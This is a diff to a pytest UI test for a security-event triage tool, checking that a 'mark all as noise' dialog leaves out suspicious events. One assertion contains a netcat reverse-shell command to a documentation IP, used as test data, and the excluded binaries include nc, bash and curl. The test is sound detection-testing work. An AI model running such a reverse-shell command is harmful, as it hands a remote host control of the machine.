@@ -8,6 +8,7 @@ from pathlib import Path
 import pytest
 from tests_ui import drawn
 from textual.pilot import Pilot
+from textual.widgets import Static
 
 from conftest import real_lines
 from tetratui.core.config import Config, Keys, Time
@@ -17,6 +18,7 @@ from tetratui.core.tuning.marks import Verdict
 from tetratui.core.workspace.feed_events import EventsRead
 from tetratui.ui.app import Tetratui
 from tetratui.ui.messages import FeedMessage
+from tetratui.ui.screens.live.mark_all import MarkAll
 from tetratui.ui.screens.live.screen import LiveScreen
 from tetratui.ui.widgets.event_grid import EventGrid
 
@@ -195,10 +197,30 @@ async def test_marking_all_asks_first_and_marks_what_the_query_selects(app_of: M
         await looked(pilot, wait)
         await pilot.press("M")
         await wait(pilot, lambda: app.screen is not screen)
+        dialog = app.screen
+        assert isinstance(dialog, MarkAll)
+        await wait(pilot, lambda: dialog.lesson is not None)
+        listed = str(dialog.query_one("#left-out", Static).content)
+        assert "noise leaves out" in listed
+        assert "/usr/bin/nc.traditional -e /bin/sh 198.51.100.66 4444" in listed
         await pilot.press("m")
         await wait(pilot, lambda: app.screen is screen and len(app.workspace.marks) > 0)
         marked = app.workspace.marks.rows(app.workspace.still(), Verdict.NOISE)
-        assert marked.tolist() == screen.pane.view.ids.tolist()
+        ids = screen.pane.view.ids.tolist()
+        left = set(ids) - set(marked.tolist())
+        assert set(marked.tolist()) <= set(ids)
+        assert {app.workspace.table.event(row).binary for row in left} == {
+            "/usr/bin/nc.traditional",
+            "/usr/bin/bash",
+            "/usr/bin/curl",
+        }
+        await pilot.press("M")
+        await wait(pilot, lambda: app.screen is not screen)
+        await pilot.press("i")
+        await pilot.press("m")
+        await wait(pilot, lambda: app.screen is screen and len(app.workspace.marks) == len(ids))
+        marked = app.workspace.marks.rows(app.workspace.still(), Verdict.NOISE)
+        assert marked.tolist() == ids
         screen.show_pane("all", "mark:noise")
         await wait(pilot, lambda: screen.pane.view.query.text == "mark:noise" and len(screen.pane.view) == len(marked))
 
